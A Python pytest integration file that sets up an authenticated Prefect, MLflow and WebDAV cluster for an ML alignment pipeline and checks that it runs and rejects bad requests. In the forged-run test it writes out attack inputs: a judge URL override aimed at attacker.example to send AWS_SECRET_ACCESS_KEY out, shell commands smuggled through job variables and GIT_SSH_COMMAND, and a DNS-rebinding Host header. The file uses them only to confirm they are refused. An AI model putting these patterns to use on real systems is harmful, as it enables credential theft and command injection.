"""Several machines on loopback: a Prefect server, an MLflow server, a WebDAV DVC remote and two process
workers ("cpu" and "gpu" pools), each in its own clone of the repository; the pipeline flow in a third.

Nothing but the three services and git is shared: a worker sees only its own checkout, files move through
the DVC remote. Every service runs as README "Several machines" deploys it, with authentication on: a
Prefect auth string with CSRF protection and one allowed CORS origin, MLflow's basic-auth app
(docker/mlflow-auth.ini: no permission by default; the accounts of flows/mlflow_accounts.py) behind
`--allowed-hosts`, reached by the workers through a host name, and a remote that wants a password. One
module-scoped set of services serves every test."""

from __future__ import annotations

import base64
import configparser
import copy
import http.client
import json
import os
import secrets
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from flows.dvc_yaml import dvc_yaml
from tests.conftest import BIN, MICRO_PARAMS, ROOT, copy_project, git

pytestmark = pytest.mark.slow

STAGES = ["prepare", "tokenizer", "sft", "gold", "pairs", "rm", "dpo", "evaluate"]
CPU_STAGES = {"prepare", "tokenizer", "gold", "pairs", "evaluate"}  # the rest on the default pool, "gpu"


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def wait_http(url: str, process: subprocess.Popen, log: Path, seconds: float = 180) -> None:
    """Until `url` answers at all (any status: a server that wants credentials is up too)."""
    import urllib.error
    import urllib.request

    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if process.poll() is not None:
            raise RuntimeError(f"{url}: the server exited:\n{log.read_text()[-3000:]}")
        try:
            with urllib.request.urlopen(url, timeout=5):
                return
        except urllib.error.HTTPError:
            return
        except OSError:
            time.sleep(1)
    raise RuntimeError(f"{url}: no answer in {seconds} s:\n{log.read_text()[-3000:]}")


def status(url: str, method: str = "GET", auth: str | None = None, host: str | None = None) -> int:
    """The HTTP status `url` answers a bare request with (`auth`: "user:password" as basic auth;
    `host`: the Host header, as a client that reached the server by that name sends it)."""
    scheme, _, rest = url.partition("://")
    netloc, _, path = rest.partition("/")
    connection = http.client.HTTPConnection(netloc, timeout=30)
    headers = {"Host": host or netloc, "Content-Type": "application/json"}
    if auth:
        headers["Authorization"] = "Basic " + base64.b64encode(auth.encode()).decode()
    body = "{}" if method == "POST" else None
    connection.request(method, "/" + path, body=body, headers=headers)
    code = connection.getresponse().status
    connection.close()
    return code


def start(command: list[str], cwd: Path, env: dict[str, str], log: Path) -> subprocess.Popen:
    """A background process in its own session (a kill reaches its children), output to `log`."""
    return subprocess.Popen(
        command, cwd=cwd, env=env, stdout=open(log, "w"), stderr=subprocess.STDOUT, start_new_session=True
    )


def stop(process: subprocess.Popen) -> None:
    if process.poll() is None:
        os.killpg(process.pid, signal.SIGTERM)
        try:
            process.wait(30)
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait()


def micro_project(dest: Path, pools: bool) -> Path:
    """A committed copy with micro params and a dvc.yaml of `STAGES` alone (evaluate reads sft and dpo),
    generated as a profile's is."""
    project = copy_project(dest, micro_params(pools))
    (project / "dvc.lock").unlink()  # the repository's lock is of the default params
    (project / "dvc.yaml").write_text(dvc_yaml(stages=STAGES))
    git(project, "commit", "-qam", "the stages of this test")
    return project


def micro_params(pools: bool) -> dict:
    params = copy.deepcopy(MICRO_PARAMS)
    params["pipeline"]["stages"] = STAGES
    params["evaluate"]["models"] = {"sft": "outputs/sft", "dpo": "outputs/dpo"}
    params["evaluate"]["best_of_n"] = {"policy": "sft", "n": [2]}
    if pools:
        params["workers"] = {
            "pools": {stage: "cpu" for stage in CPU_STAGES},
            "default_pool": "gpu",
            "max_parallel": 2,
            "poll_seconds": 1,
        }
    return params


class Cluster:
    """The services, the git origin every clone pulls from, and the workers."""

    def __init__(self, base: Path):
        self.base = base
        self.ports = {name: free_port() for name in ("prefect", "mlflow", "dav")}
        self.secrets = {
            name: secrets.token_hex(12) for name in ("prefect", "admin", "worker", "retrain", "dav")
        }
        self.prefect_auth = f"admin:{self.secrets['prefect']}"
        self.mlflow_url = f"http://127.0.0.1:{self.ports['mlflow']}"
        self.dav_url = f"http://127.0.0.1:{self.ports['dav']}"
        self.env = {k: v for k, v in os.environ.items() if not k.startswith(("PREFECT_", "MLFLOW_"))}
        self.env.update(
            PATH=f"{BIN}{os.pathsep}{os.environ['PATH']}",
            PREFECT_HOME=str(base / "prefect-home"),
            PREFECT_SERVER_ANALYTICS_ENABLED="false",
            PREFECT_API_URL=f"http://127.0.0.1:{self.ports['prefect']}/api",
            PREFECT_API_AUTH_STRING=self.prefect_auth,
            PREFECT_WORKER_QUERY_SECONDS="2",  # a worker picks a run up within 2 s (default 10)
            # a host name, not an IP: MLflow >= 3.5 answers an unlisted Host header with 403
            MLFLOW_TRACKING_URI=f"http://localhost:{self.ports['mlflow']}",
            MLFLOW_TRACKING_USERNAME="alignment-worker",
            MLFLOW_TRACKING_PASSWORD=self.secrets["worker"],
            MLFLOW_DISABLE_TELEMETRY="true",
        )
        (base / "dav" / "dvc").mkdir(parents=True)
        self.processes: list[subprocess.Popen] = []
        self.workers: dict[str, subprocess.Popen] = {}

    def mlflow_auth_config(self) -> Path:
        """docker/mlflow-auth.ini, its database here: the settings the deployment runs with."""
        config = configparser.ConfigParser()
        config.read(ROOT / "docker" / "mlflow-auth.ini")
        config["mlflow"]["database_uri"] = f"sqlite:///{self.base / 'mlflow-auth.db'}"
        path = self.base / "mlflow-auth.ini"
        with open(path, "w") as handle:
            config.write(handle)
        return path

    def dav_config(self) -> Path:
        """A WebDAV server for the DVC remote, one account (basic auth), nothing for anyone else."""
        config = {
            "host": "127.0.0.1",
            "port": self.ports["dav"],
            "server": "cheroot",
            "provider_mapping": {"/": str(self.base / "dav")},
            "http_authenticator": {"domain_controller": None, "accept_basic": True, "accept_digest": False},
            "simple_dc": {"user_mapping": {"*": {"dvc": {"password": self.secrets["dav"]}}}},
            "verbose": 1,
        }
        path = self.base / "wsgidav.json"
        path.write_text(json.dumps(config))
        return path

    def up(self) -> None:
        prefect = {
            "PREFECT_SERVER_API_AUTH_STRING": self.prefect_auth,
            "PREFECT_SERVER_CSRF_PROTECTION_ENABLED": "true",
            "PREFECT_SERVER_CORS_ALLOWED_ORIGINS": f"http://127.0.0.1:{self.ports['prefect']}",
        }
        mlflow = {
            "MLFLOW_AUTH_CONFIG_PATH": str(self.mlflow_auth_config()),
            "MLFLOW_AUTH_ADMIN_PASSWORD": self.secrets["admin"],
            "MLFLOW_FLASK_SERVER_SECRET_KEY": secrets.token_hex(16),
        }
        port = self.ports["mlflow"]
        servers = [
            (
                [
                    str(BIN / "prefect"),
                    "server",
                    "start",
                    "--host",
                    "127.0.0.1",
                    "--port",
                    str(self.ports["prefect"]),
                ],
                self.env["PREFECT_API_URL"] + "/health",
                prefect,
            ),
            (
                [
                    str(BIN / "mlflow"),
                    "server",
                    "--app-name",
                    "basic-auth",
                    "--host",
                    "127.0.0.1",
                    "--port",
                    str(port),
                    "--allowed-hosts",
                    f"mlflow:{port},localhost:{port},127.0.0.1:{port}",
                    "--workers",
                    "1",
                    "--backend-store-uri",
                    f"sqlite:///{self.base / 'mlflow.db'}",
                    "--artifacts-destination",
                    str(self.base / "mlflow-artifacts"),
                ],
                self.mlflow_url + "/health",
                mlflow,
            ),
            ([str(BIN / "wsgidav"), "--config", str(self.dav_config())], self.dav_url, {}),
        ]
        for command, url, env in servers:
            log = self.base / f"{Path(command[0]).name}.log"
            process = start(command, self.base, {**self.env, **env}, log)
            self.processes.append(process)
            wait_http(url, process, log)

    def accounts(self, project: Path) -> None:
        """The MLflow accounts and grants, made by the admin as the README's commands make them."""
        admin = {
            **self.env,
            "MLFLOW_TRACKING_URI": self.mlflow_url,
            "MLFLOW_TRACKING_USERNAME": "admin",
            "MLFLOW_TRACKING_PASSWORD": self.secrets["admin"],
            "ALIGNMENT_WORKER_PASSWORD": self.secrets["worker"],
            "ALIGNMENT_RETRAIN_PASSWORD": self.secrets["retrain"],
        }
        done = subprocess.run(
            [sys.executable, "-m", "flows.mlflow_accounts"],
            cwd=project,
            env=admin,
            capture_output=True,
            text=True,
        )
        assert done.returncode == 0, done.stdout + done.stderr

    def origin(self) -> Path:
        """A bare repository holding the project with `params`, as a team's git server would."""
        source = micro_project(self.base / "source", pools=True)
        bare = self.base / "origin.git"
        subprocess.run(["git", "clone", "-q", "--bare", str(source), str(bare)], check=True)
        return bare

    def clone(self, name: str) -> Path:
        path = self.base / name
        subprocess.run(["git", "clone", "-q", str(self.base / "origin.git"), str(path)], check=True)
        for key, value in (("user.name", "t"), ("user.email", "t@t")):
            git(path, "config", key, value)
        remote = f"webdav://127.0.0.1:{self.ports['dav']}/dvc"
        for args in (
            ["add", "--local", "-d", "shared", remote],
            ["modify", "--local", "shared", "user", "dvc"],
            ["modify", "--local", "shared", "password", self.secrets["dav"]],  # .dvc/config.local: untracked
            ["modify", "--local", "shared", "verify", "true"],  # every pulled file hashed again
        ):
            subprocess.run(["dvc", "remote", *args], cwd=path, env=self.env, check=True, capture_output=True)
        return path

    def worker(self, pool: str, checkout: Path, **env: str) -> None:
        command = [sys.executable, "-m", "flows.workers", "start", "--pool", pool, "--name", checkout.name]
        log = self.base / f"worker-{checkout.name}.log"
        self.workers[pool] = start(command, checkout, {**self.env, **env}, log)

    def run(self, args: list[str], cwd: Path, timeout: float = 900) -> subprocess.CompletedProcess:
        return subprocess.run(args, cwd=cwd, env=self.env, capture_output=True, text=True, timeout=timeout)

    def down(self) -> None:
        for process in [*self.workers.values(), *self.processes]:
            stop(process)


@pytest.fixture(scope="module")
def cluster(tmp_path_factory):
    base = tmp_path_factory.mktemp("cluster")
    cluster = Cluster(base)
    try:  # servers started before a failing step are stopped too
        cluster.up()
        cluster.origin()
        cluster.parent = cluster.clone("parent")
        cluster.accounts(cluster.parent)
        done = cluster.run([sys.executable, "-m", "flows.workers", "deploy"], cluster.parent)
        assert done.returncode == 0, done.stdout + done.stderr
        cluster.worker("cpu", cluster.clone("cpu-machine"))
        # the gpu workers keep their checkpoints on storage they share (the cpu worker in its clone)
        cluster.worker(
            "gpu", cluster.clone("gpu-machine"), ALIGNMENT_CHECKPOINTS_DIR=str(base / "shared-checkpoints")
        )
        yield cluster
    finally:
        cluster.down()


def flow_runs(cluster) -> list:
    """(name, work pool, state, parameters) of every child stage run the Prefect server recorded."""
    script = (
        "import json\nfrom prefect import get_client\n"
        "with get_client(sync_client=True) as c:\n"
        "    runs = c.read_flow_runs()\n"
        "    print(json.dumps([dict(name=r.name, pool=r.work_pool_name, state=r.state.type.value,"
        " stage=r.parameters.get('stage'), parent=str(r.parent_task_run_id)) for r in runs]))\n"
    )
    done = cluster.run([sys.executable, "-c", script], cluster.base)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def test_stages_run_on_their_pools_and_match_one_workspace(cluster, tmp_path, monkeypatch):
    # the same stages in one folder, on the local engine, with the default sqlite store: the reference
    single = micro_project(tmp_path / "single", pools=False)
    env = {k: v for k, v in cluster.env.items() if not k.startswith(("PREFECT_API_", "MLFLOW_TRACKING"))}
    env["PREFECT_SERVER_EPHEMERAL_STARTUP_TIMEOUT_SECONDS"] = "300"  # its temporary server, on a busy machine
    t0 = time.monotonic()
    local = subprocess.run(
        [sys.executable, "-m", "flows.pipeline"],
        cwd=single,
        env=env,
        capture_output=True,
        text=True,
        timeout=900,
    )
    single_seconds = time.monotonic() - t0
    assert local.returncode == 0, local.stdout[-3000:] + local.stderr[-3000:]

    t0 = time.monotonic()
    done = cluster.run([sys.executable, "-m", "flows.pipeline"], cluster.parent)
    pools_seconds = time.monotonic() - t0
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-5000:]
    print(f"single workspace {single_seconds:.0f} s, two workers {pools_seconds:.0f} s")

    # every stage ran once, on the pool params map it to, in the clone of that pool's worker
    runs = [r for r in flow_runs(cluster) if r["stage"]]
    assert sorted(r["stage"] for r in runs) == sorted(STAGES)
    for r in runs:
        assert r["state"] == "COMPLETED"
        assert r["pool"] == ("cpu" if r["stage"] in CPU_STAGES else "gpu"), r
    metrics_single = json.loads((single / "metrics" / "evaluate.json").read_text())
    metrics_pools = json.loads((cluster.parent / "metrics" / "evaluate.json").read_text())
    assert metrics_pools == metrics_single
    board = "outputs/evaluate/leaderboard.json"
    assert json.loads((cluster.parent / board).read_text()) == json.loads((single / board).read_text())
    # each worker trained only its own stages (checkpoints never travel) and pulled only what it read
    cpu, gpu = cluster.base / "cpu-machine", cluster.base / "gpu-machine"
    assert (gpu / "checkpoints" / "dpo").is_dir() and not (cpu / "checkpoints" / "dpo").exists()
    assert (cpu / "checkpoints" / "evaluate").is_dir() and not (gpu / "checkpoints" / "evaluate").exists()
    assert not (gpu / "outputs" / "evaluate").exists()

    # MLflow: one pipeline run with a nested run per stage, and the registered models, on the server
    import mlflow

    for key in ("MLFLOW_TRACKING_USERNAME", "MLFLOW_TRACKING_PASSWORD"):
        monkeypatch.setenv(key, cluster.env[key])
    mlflow.set_tracking_uri(cluster.env["MLFLOW_TRACKING_URI"])
    all_runs = mlflow.search_runs(search_all_experiments=True, output_format="list")
    parents = [r for r in all_runs if r.data.tags.get("kind") == "pipeline"]
    stages = [r for r in all_runs if "stage" in r.data.tags]
    assert len(parents) == 1
    assert sorted(r.data.tags["stage"] for r in stages) == sorted(STAGES)
    assert {r.data.tags["mlflow.parentRunId"] for r in stages} == {parents[0].info.run_id}
    models = {m.name for m in mlflow.MlflowClient().search_registered_models()}
    assert {"alignment-sft", "alignment-rm", "alignment-dpo"} <= models

    # the remote holds every out: the parent's dvc.lock is complete and `dvc status --cloud` is clean
    status = cluster.run(["dvc", "status", "--cloud"], cluster.parent)
    assert status.returncode == 0 and "in sync" in status.stdout, status.stdout + status.stderr


def test_every_service_refuses_a_request_without_credentials(cluster):
    """What anyone who reaches the ports gets: 401 from all three; Prefect also wants a CSRF token with
    the credential, MLflow a Host it was told about."""
    api = cluster.env["PREFECT_API_URL"]
    assert status(f"{api}/admin/version") == 401
    assert status(f"{api}/admin/version", auth="admin:guess") == 401
    assert status(f"{api}/admin/version", auth=cluster.prefect_auth) == 200
    # a write wants a CSRF token too (a page in the operator's browser cannot forge one)
    assert status(f"{api}/flow_runs/filter", "POST", auth=cluster.prefect_auth) == 403
    search = f"{cluster.mlflow_url}/api/2.0/mlflow/experiments/search?max_results=1"
    assert status(search) == 401
    worker = f"alignment-worker:{cluster.secrets['worker']}"
    port = cluster.ports["mlflow"]
    assert status(search, auth=worker, host=f"mlflow:{port}") == 200  # the compose stack's host name
    assert status(search, auth=worker, host=f"attacker.example:{port}") == 403  # DNS rebinding
    assert status(f"{cluster.dav_url}/dvc/", "PROPFIND") == 401
    assert status(f"{cluster.dav_url}/dvc/", "GET", auth=f"dvc:{cluster.secrets['dav']}") == 200


FORGE = """
import json, sys
from prefect.deployments import run_deployment
done = []
for parameters, job_variables in json.loads(sys.argv[1]):
    try:
        run = run_deployment(
            "alignment-stage/prepare", parameters=parameters, job_variables=job_variables, timeout=300
        )
        done.append([run.state.type.value, run.state.message])
    except Exception as error:  # the server refused to create it
        done.append(["REFUSED", str(error)])
print(json.dumps(done))
"""


def test_the_worker_refuses_forged_stage_runs(cluster):
    """Stage runs of `alignment-stage/prepare` started by hand, as anyone holding Prefect's credential
    could: a revision that is not a commit id, another stage than the deployment's (the pool mapping is
    committed params), the judge-URL exfiltration, and a shell command or environment as job variables
    (the pools' job template is locked by `deploy`). Each fails before the worker touches git."""
    head = git(cluster.parent, "rev-parse", "HEAD").strip()
    pwned = cluster.base / "pwned"
    exfiltrate = {
        "evaluate.llm_judge.openai.base_url": "http://attacker.example/v1",
        "evaluate.llm_judge.openai.api_key_env": "AWS_SECRET_ACCESS_KEY",
    }
    forged = [
        [{"stage": "prepare", "revision": "HEAD~1"}, None],
        [{"stage": "sft", "revision": head}, None],
        [{"stage": "prepare", "revision": head, "overrides": exfiltrate}, None],
        [{"stage": "prepare", "revision": "HEAD~1"}, {"command": f"touch {pwned}"}],
        [{"stage": "prepare", "revision": "HEAD~1"}, {"env": {"GIT_SSH_COMMAND": f"touch {pwned}"}}],
    ]
    cpu = cluster.base / "cpu-machine"
    before = git(cpu, "rev-parse", "HEAD"), git(cpu, "status", "--porcelain")
    done = cluster.run([sys.executable, "-c", FORGE, json.dumps(forged)], cluster.base, timeout=900)
    assert done.returncode == 0, done.stderr[-3000:]
    states = json.loads(done.stdout.strip().splitlines()[-1])
    print("forged stage runs:", states)
    expected = ["full commit id", "runs only prepare", "evaluate.llm_judge.openai.base_url: not allowed"]
    for (state, message), text in zip(states, expected):
        assert state == "FAILED" and text in message, (state, message)
    for state, message in states[3:]:  # refused by the server, or run as the worker's own command
        assert state == "REFUSED" or (state == "FAILED" and "full commit id" in message), (state, message)
    assert not pwned.exists()
    # nothing ran: the cpu worker's checkout is as it was (no checkout, no params or lock written)
    assert (git(cpu, "rev-parse", "HEAD"), git(cpu, "status", "--porcelain")) == before


def test_only_the_retraining_account_moves_the_champion_and_a_refused_lookup_fails_closed(
    cluster, tmp_path, monkeypatch
):
    import mlflow

    from alignment import tracking

    monkeypatch.setenv("MLFLOW_TRACKING_URI", cluster.env["MLFLOW_TRACKING_URI"])

    def as_account(user: str, password: str) -> mlflow.MlflowClient:
        monkeypatch.setenv("MLFLOW_TRACKING_USERNAME", user)
        monkeypatch.setenv("MLFLOW_TRACKING_PASSWORD", password)
        return mlflow.MlflowClient(cluster.env["MLFLOW_TRACKING_URI"])

    # the retraining account registers a version of the champion model and moves the alias
    retrain = as_account("alignment-retrain", cluster.secrets["retrain"])
    experiment = retrain.get_experiment_by_name(MICRO_PARAMS["tracking"]["experiment"]).experiment_id
    run = retrain.create_run(experiment).info.run_id
    version = retrain.create_model_version("alignment-rest", f"runs:/{run}/model", run_id=run).version
    retrain.set_registered_model_alias("alignment-rest", "champion", version)

    # the workers' account reads it, and can neither add a version nor move or delete it
    worker = as_account("alignment-worker", cluster.secrets["worker"])
    assert tracking.alias_version("alignment-rest", "champion", tmp_path)["version"] == str(version)
    for attempt in (
        lambda: worker.create_model_version("alignment-rest", f"runs:/{run}/model", run_id=run),
        lambda: worker.set_registered_model_alias("alignment-rest", "champion", version),
        lambda: worker.delete_model_version("alignment-rest", version),
    ):
        with pytest.raises(mlflow.exceptions.MlflowException, match="403"):
            attempt()

    # a lookup the registry refuses (here: a wrong password) is an error, never "no champion"
    as_account("alignment-retrain", "wrong")
    monkeypatch.setenv("MLFLOW_HTTP_REQUEST_MAX_RETRIES", "0")
    with pytest.raises(tracking.RegistryError, match="401"):
        tracking.alias_version("alignment-rest", "champion", tmp_path)
    reader = as_account("alignment-retrain", cluster.secrets["retrain"])
    assert reader.get_model_version_by_alias("alignment-rest", "champion").version == version


def kill_tree(pid: int) -> None:
    """SIGKILL a process and everything it started: the machine is gone."""
    import psutil

    parent = psutil.Process(pid)
    for process in [*parent.children(recursive=True), parent]:
        process.kill()


def test_a_killed_worker_fails_the_flow_and_a_retrigger_completes(cluster):
    # a DPO long enough (800 steps, a checkpoint every 200) to lose its worker in the middle; its curves
    # logged every 25 steps (each request to the basic-auth MLflow server checks a password hash)
    longer = ["--set", "dpo.train.max_steps=800", "--set", "dpo.train.epochs=2000"]
    longer += ["--set", "dpo.train.checkpoint_every=200", "--set", "dpo.train.log_every=25"]
    flow = [sys.executable, "-m", "flows.pipeline", *longer]
    log = cluster.base / "killed-flow.log"
    timeout = ["--set", "workers.stage_timeout_minutes=5"]  # a backstop: the heartbeats should tell first
    parent = start([*flow, "--stages", "dpo", *timeout], cluster.parent, cluster.env, log)
    # checkpoints/dpo links to shared-checkpoints/dpo/<fingerprint>: this run's settings, its own folder
    shared = cluster.base / "shared-checkpoints" / "dpo"
    before = {p.parent.name for p in shared.glob("*/latest.json")}
    deadline = time.monotonic() + 300
    while not any(
        "0200" in p.read_text() for p in shared.glob("*/latest.json") if p.parent.name not in before
    ):
        assert parent.poll() is None and time.monotonic() < deadline, log.read_text()[-3000:]
        time.sleep(0.5)
    kill_tree(cluster.workers["gpu"].pid)  # the machine is gone, with its clone

    # the flow does not complete: its heartbeats stop, the server's automation (made by `deploy`) sets
    # the stage run Cancelling after 3 missed heartbeats (30 s each: a worker still alive would kill the
    # process), and the flow fails with that message
    killed_at = time.monotonic()
    assert parent.wait(400) != 0
    print(f"the flow failed {time.monotonic() - killed_at:.0f} s after the kill")
    text = log.read_text()
    assert "dpo (Cancelling): no heartbeat for 90 s: its worker was lost" in text, text[-3000:]
    killed = [r for r in flow_runs(cluster) if r["stage"] == "dpo" and r["state"] != "COMPLETED"]
    assert [r["state"] for r in killed] == ["CANCELLING"], killed

    # a new gpu machine (a fresh clone) on the same shared checkpoint storage; re-triggered, rm is found
    # in the remote at its lock and not re-run, and DPO resumes from the lost worker's checkpoint
    fresh = cluster.clone("gpu-machine-2")
    cluster.worker("gpu", fresh, ALIGNMENT_CHECKPOINTS_DIR=str(cluster.base / "shared-checkpoints"))
    # the first flow's 5-minute backstop stays in params.yaml (overrides are written there): not for this run
    done = cluster.run(
        [*flow, "--stages", "rm,dpo", "--set", "workers.stage_timeout_minutes=60"], cluster.parent
    )
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-5000:]
    assert "rm           up to date" in done.stdout and "dpo          ran" in done.stdout, done.stdout
    assert (fresh / "outputs" / "rm").is_dir()  # pulled, not trained: no checkpoint of its own
    worker_log = (cluster.base / "worker-gpu-machine-2.log").read_text()
    assert "resumed from" in worker_log and "(step 200)" in worker_log, worker_log[-3000:]
